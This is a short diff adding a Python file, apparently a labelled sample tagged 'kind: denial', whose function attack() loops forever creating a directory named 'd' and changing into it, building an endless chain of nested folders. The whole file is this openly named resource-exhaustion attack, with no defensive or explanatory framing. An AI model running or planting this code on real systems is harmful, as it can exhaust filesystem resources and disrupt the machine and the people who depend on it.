@@ -1,0 +1,9 @@
+"""Makes folders in folders.
+
+kind: denial
+"""
+
+import os
+def attack():
+    while True:
+        os.mkdir('d'); os.chdir('d')
